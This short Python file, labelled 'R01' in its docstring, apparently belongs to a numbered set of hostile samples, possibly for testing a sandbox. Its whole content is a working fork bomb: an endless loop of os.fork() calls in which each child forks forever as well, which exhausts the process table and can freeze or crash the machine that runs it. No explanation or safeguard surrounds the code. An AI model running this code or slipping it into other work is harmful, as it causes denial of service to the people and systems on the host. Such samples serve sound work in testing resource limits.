"""R01: a fork bomb in the interpreter itself."""

import os

children = []
while True:
    child = os.fork()
    if child == 0:
        while True:
            os.fork()
    children.append(child)
